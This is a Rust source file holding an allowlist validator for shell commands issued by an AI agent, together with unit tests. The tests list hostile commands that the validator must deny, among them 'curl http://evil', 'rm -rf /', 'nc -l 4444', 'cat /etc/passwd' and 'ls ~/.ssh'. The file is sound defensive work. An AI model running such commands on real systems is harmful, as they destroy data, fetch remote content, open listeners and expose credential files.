//! Command allowlist and the validator every agent shell command passes through.
//!
//! `validate` is pure: it never touches the filesystem or spawns a shell, so it
//! can gate live sessions and run in tests with identical results.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Component, Path, PathBuf};
use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::core::shell::{self, SimpleCommand, Word};

static CHMOD_MODE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[ugoa]*\+x$").expect("valid chmod mode regex"));
static ASSIGNMENT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*=").expect("valid assignment regex"));

const MAX_SUBSTITUTION_DEPTH: usize = 8;

/// Keywords that prefix a real command (`if ls`, `then npm test`).
const PREFIX_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "while", "until", "do", "!", "{", "time",
];
/// Keywords that close a compound command and run nothing themselves.
const CLOSING_KEYWORDS: &[&str] = &["fi", "done", "esac", "}"];
/// Loop headers whose words are data, not commands.
const LOOP_HEADERS: &[&str] = &["for", "select"];

pub const DEFAULT_COMMANDS: &[&str] = &[
    "ls", "cat", "head", "tail", "wc", "grep", "cp", "mkdir", "chmod", "npm", "node", "npx", "git",
    "ps", "lsof", "sleep", "pkill",
];
pub const DEFAULT_PKILL_TARGETS: &[&str] = &["node", "npm", "npx", "vite", "next", "react-scripts"];
pub const DEFAULT_SCRIPT: &str = "init.sh";

/// How arguments of one allowlisted program are constrained.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CommandRule {
    /// Any arguments; path-like arguments must stay in the project.
    Plain,
    /// `chmod`: a single `+x` style mode and at least one file, nothing else.
    ExecutableBitOnly,
    /// `pkill`: every process pattern must name one of these programs.
    KillTargets(BTreeSet<String>),
    /// The project's setup script, run by path from inside the project.
    ProjectScript,
}

/// Immutable allowlist built once at startup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandPolicy {
    rules: BTreeMap<String, CommandRule>,
    script: String,
}

impl CommandPolicy {
    /// Build a policy from command names. `chmod` and `pkill` get their
    /// argument rules automatically; `script` is added as the project script.
    pub fn new<S: AsRef<str>>(commands: &[S], pkill_targets: &[S], script: &str) -> Self {
        let targets: BTreeSet<String> = pkill_targets
            .iter()
            .map(|target| target.as_ref().to_string())
            .collect();
        let mut rules = BTreeMap::new();
        for name in commands {
            let name = name.as_ref();
            let rule = match name {
                "chmod" => CommandRule::ExecutableBitOnly,
                "pkill" => CommandRule::KillTargets(targets.clone()),
                _ if name == script => CommandRule::ProjectScript,
                _ => CommandRule::Plain,
            };
            rules.insert(name.to_string(), rule);
        }
        if !script.is_empty() {
            rules.insert(script.to_string(), CommandRule::ProjectScript);
        }
        Self {
            rules,
            script: script.to_string(),
        }
    }

    pub fn rule(&self, name: &str) -> Option<&CommandRule> {
        self.rules.get(name)
    }

    pub fn script(&self) -> &str {
        &self.script
    }

    pub fn allowed_names(&self) -> Vec<&str> {
        self.rules.keys().map(String::as_str).collect()
    }
}

impl Default for CommandPolicy {
    fn default() -> Self {
        Self::new(DEFAULT_COMMANDS, DEFAULT_PKILL_TARGETS, DEFAULT_SCRIPT)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum Decision {
    Allow,
    Deny { reason: String },
}

impl Decision {
    pub fn is_allowed(&self) -> bool {
        matches!(self, Decision::Allow)
    }

    pub fn reason(&self) -> Option<&str> {
        match self {
            Decision::Allow => None,
            Decision::Deny { reason } => Some(reason),
        }
    }
}

/// Decide whether `command` may run in `project_root` under `policy`.
///
/// Every simple command in the line, and every command inside a substitution,
/// must be allowed on its own for the line to be allowed.
pub fn validate(command: &str, policy: &CommandPolicy, project_root: &Path) -> Decision {
    match validate_line(command, policy, project_root, 0) {
        Ok(()) => Decision::Allow,
        Err(reason) => Decision::Deny { reason },
    }
}

fn validate_line(
    command: &str,
    policy: &CommandPolicy,
    root: &Path,
    depth: usize,
) -> Result<(), String> {
    if depth > MAX_SUBSTITUTION_DEPTH {
        return Err("command substitutions are nested too deeply".to_string());
    }
    let line = shell::parse(command).map_err(|err| format!("could not parse command: {err}"))?;
    for simple in &line.commands {
        validate_simple(simple, policy, root)?;
    }
    for nested in &line.substitutions {
        validate_line(nested, policy, root, depth + 1)?;
    }
    Ok(())
}

fn validate_simple(
    command: &SimpleCommand,
    policy: &CommandPolicy,
    root: &Path,
) -> Result<(), String> {
    for target in &command.redirects {
        check_path_scope(target, root)?;
    }

    let mut words = command.words.as_slice();
    while let Some(first) = words.first()
        && !first.quoted
        && PREFIX_KEYWORDS.contains(&first.text.as_str())
    {
        words = &words[1..];
    }
    let Some((name, args)) = words.split_first() else {
        return Ok(());
    };
    if !name.quoted {
        if CLOSING_KEYWORDS.contains(&name.text.as_str()) && args.is_empty() {
            return Ok(());
        }
        if LOOP_HEADERS.contains(&name.text.as_str()) {
            for word in args {
                check_path_scope(word, root)?;
            }
            return Ok(());
        }
        if ASSIGNMENT.is_match(&name.text) {
            return Err(format!(
                "environment assignment '{}' is not permitted",
                name.text
            ));
        }
    }
    if name.dynamic {
        return Err(format!(
            "command name '{}' is computed at runtime and cannot be checked",
            name.text
        ));
    }

    let rule = resolve_rule(&name.text, policy, root)?;
    match rule {
        CommandRule::Plain | CommandRule::ProjectScript => {}
        CommandRule::ExecutableBitOnly => check_chmod(args)?,
        CommandRule::KillTargets(targets) => check_pkill(args, targets)?,
    }
    for arg in args {
        check_path_scope(arg, root)?;
    }
    Ok(())
}

fn resolve_rule<'p>(
    name: &str,
    policy: &'p CommandPolicy,
    root: &Path,
) -> Result<&'p CommandRule, String> {
    let script = policy.script();
    if name.contains('/') {
        let base = name.rsplit('/').next().unwrap_or(name);
        if !script.is_empty() && base == script {
            check_path_scope(&Word::literal(name), root)?;
            return policy
                .rule(script)
                .ok_or_else(|| not_permitted(name, policy));
        }
        return Err(format!(
            "command path '{name}' is not permitted; only ./{script} may be run by path"
        ));
    }
    if name == script {
        return Err(format!(
            "{script} must be run as ./{script} or by a path ending in /{script}"
        ));
    }
    policy.rule(name).ok_or_else(|| not_permitted(name, policy))
}

fn not_permitted(name: &str, policy: &CommandPolicy) -> String {
    format!(
        "command '{name}' is not permitted (allowed: {})",
        policy.allowed_names().join(", ")
    )
}

fn check_chmod(args: &[Word]) -> Result<(), String> {
    let Some((mode, files)) = args.split_first() else {
        return Err("chmod requires a +x mode and at least one file".to_string());
    };
    if !CHMOD_MODE.is_match(&mode.text) {
        return Err(format!(
            "chmod is only permitted to add the executable bit (+x), got '{}'",
            mode.text
        ));
    }
    if files.is_empty() {
        return Err("chmod requires at least one file".to_string());
    }
    if let Some(flag) = files.iter().find(|file| file.text.starts_with('-')) {
        return Err(format!("chmod flag '{}' is not permitted", flag.text));
    }
    Ok(())
}

fn check_pkill(args: &[Word], targets: &BTreeSet<String>) -> Result<(), String> {
    let patterns: Vec<&Word> = args
        .iter()
        .filter(|arg| !arg.text.starts_with('-'))
        .collect();
    if patterns.is_empty() {
        return Err("pkill requires a process name".to_string());
    }
    for pattern in patterns {
        let program = pattern
            .text
            .split_whitespace()
            .next()
            .unwrap_or_default();
        let base = program.rsplit('/').next().unwrap_or(program);
        if !targets.contains(base) {
            let allowed: Vec<&str> = targets.iter().map(String::as_str).collect();
            return Err(format!(
                "pkill target '{}' is not permitted (allowed: {})",
                pattern.text,
                allowed.join(", ")
            ));
        }
    }
    Ok(())
}

/// Reject path-like words that leave the project root.
fn check_path_scope(word: &Word, root: &Path) -> Result<(), String> {
    if word.leading_expansion {
        return Err(format!(
            "argument '{}' expands at runtime and cannot be checked",
            word.text
        ));
    }
    // A runtime value spliced into a path could carry `..` segments.
    if word.dynamic && word.text.contains('/') {
        return Err(format!(
            "path '{}' contains a runtime expansion and cannot be checked",
            word.text
        ));
    }
    let text = match word.text.split_once('=') {
        Some((flag, value)) if flag.starts_with('-') => value,
        _ => word.text.as_str(),
    };
    if !is_path_like(text) || text == "/dev/null" {
        return Ok(());
    }
    if text.starts_with('~') {
        return Err(format!("path '{text}' is outside the project directory"));
    }
    if path_within(Path::new(text), root) {
        Ok(())
    } else {
        Err(format!("path '{text}' is outside the project directory"))
    }
}

fn is_path_like(text: &str) -> bool {
    text.starts_with('/') || text.starts_with('~') || text.split('/').any(|segment| segment == "..")
}

/// Lexical containment: no symlink resolution, no filesystem access.
fn path_within(path: &Path, root: &Path) -> bool {
    if path.is_absolute() {
        if !root.is_absolute() {
            return false;
        }
        return normalize(path).starts_with(normalize(root));
    }
    let mut depth: i64 = 0;
    for component in path.components() {
        match component {
            Component::Normal(_) => depth += 1,
            Component::ParentDir => {
                depth -= 1;
                if depth < 0 {
                    return false;
                }
            }
            _ => {}
        }
    }
    true
}

fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other.as_os_str()),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(command: &str) -> Decision {
        validate(command, &CommandPolicy::default(), Path::new("/work/app"))
    }

    fn assert_allowed(command: &str) {
        assert_eq!(check(command), Decision::Allow, "expected allow: {command}");
    }

    fn assert_denied(command: &str) -> String {
        match check(command) {
            Decision::Deny { reason } => reason,
            Decision::Allow => panic!("expected deny: {command}"),
        }
    }

    /// The reference cases every policy change must keep.
    #[test]
    fn reference_commands() {
        assert_allowed("ls -la");
        assert_denied("rm -rf /");
        assert_allowed("chmod +x init.sh");
        assert_denied("chmod -R 777 /");
        assert_allowed("git commit -m 'wip'");
        assert_denied("curl http://evil");
    }

    #[test]
    fn deny_reason_names_the_program() {
        let reason = assert_denied("curl http://evil");
        assert!(reason.contains("'curl'"), "{reason}");
        assert!(reason.contains("not permitted"), "{reason}");
    }

    #[test]
    fn every_command_in_a_chain_must_be_allowed() {
        assert_allowed("npm install && npm run build | tail -n 20");
        assert_denied("ls && curl http://evil");
        assert_denied("cat package.json | sh");
        assert_denied("npm test; wget http://evil");
        assert_denied("ls & nc -l 4444");
    }

    #[test]
    fn substitutions_are_validated_recursively() {
        assert_allowed("cat $(ls package.json)");
        assert_allowed("git commit -m \"$(cat notes.txt)\"");
        assert_denied("ls $(curl http://evil)");
        assert_denied("ls `rm -rf src`");
        assert_denied("cat <(curl http://evil)");
        assert_denied("echo \"$(whoami)\"");
        assert_denied("ls \"$(ls $(curl http://evil))\"");
    }

    #[test]
    fn quoted_metacharacters_are_data() {
        assert_allowed("git commit -m 'fix: a && b | c; $(x)'");
        assert_allowed("grep -r \"useState(\" src");
    }

    #[test]
    fn chmod_only_adds_executable_bit() {
        assert_allowed("chmod u+x init.sh scripts/dev.sh");
        assert_allowed("chmod a+x ./init.sh");
        assert_denied("chmod 755 init.sh");
        assert_denied("chmod +x");
        assert_denied("chmod +x -R src");
        assert_denied("chmod u+s init.sh");
        assert_denied("chmod +x /usr/bin/env");
    }

    #[test]
    fn pkill_only_targets_dev_processes() {
        assert_allowed("pkill node");
        assert_allowed("pkill -f 'vite --port 5173'");
        assert_allowed("pkill -9 -f next");
        assert_denied("pkill sshd");
        assert_denied("pkill -f");
        assert_denied("pkill -f 'python server.py'");
    }

    #[test]
    fn setup_script_must_run_by_path_in_project() {
        assert_allowed("./init.sh");
        assert_allowed("/work/app/init.sh");
        assert_denied("init.sh");
        assert_denied("/tmp/init.sh");
        assert_denied("../other/init.sh");
        assert_denied("./deploy.sh");
        assert_denied("/bin/ls");
    }

    #[test]
    fn paths_outside_project_are_denied() {
        assert_allowed("cat src/../package.json");
        assert_allowed("cat /work/app/src/index.js");
        assert_allowed("npm test > /dev/null 2>&1");
        assert_denied("cat /etc/passwd");
        assert_denied("cat ../secrets.txt");
        assert_denied("ls ~/.ssh");
        assert_denied("cp src/index.js /tmp/x.js");
        assert_denied("ls > ../out.txt");
        assert_denied("git --git-dir=/etc/repo status");
        assert_denied("cat $HOME/.bashrc");
        assert_denied("for f in ../../../etc; do ls; done");
        assert_denied("for f in a b; do cat src/$f/passwd; done");
        assert_denied("for f in ../../../etc; do cat src/$f/passwd; done");
        assert_denied("cat src/$(cat dirs.txt)/passwd");
        assert_denied("ls > out/$NAME.txt");
    }

    #[test]
    fn shell_keywords_wrap_allowed_commands() {
        assert_allowed("if ls package.json; then npm install; fi");
        assert_allowed("for f in src tests; do ls -la; done");
        assert_allowed("while sleep 1; do ps aux; done");
        assert_denied("if ls; then curl http://evil; fi");
    }

    #[test]
    fn denies_indirection() {
        assert_denied("PATH=/tmp ls");
        assert_denied("FOO=1 npm test");
        assert_denied("$CMD -la");
        assert_denied("eval ls");
        assert_denied("exec ls");
        assert_denied("sh -c 'ls'");
        assert_denied("(curl http://evil)");
    }

    #[test]
    fn parse_errors_deny() {
        let reason = assert_denied("echo 'unterminated");
        assert!(reason.starts_with("could not parse command"), "{reason}");
        assert_denied("ls $(pwd");
    }

    #[test]
    fn custom_allowlist_is_honored() {
        let policy = CommandPolicy::new(&["ls", "python3"], &[], "setup.sh");
        let root = Path::new("/p");
        assert!(validate("python3 -m pytest", &policy, root).is_allowed());
        assert!(validate("./setup.sh", &policy, root).is_allowed());
        assert!(!validate("npm test", &policy, root).is_allowed());
        assert!(!validate("./init.sh", &policy, root).is_allowed());
    }
}
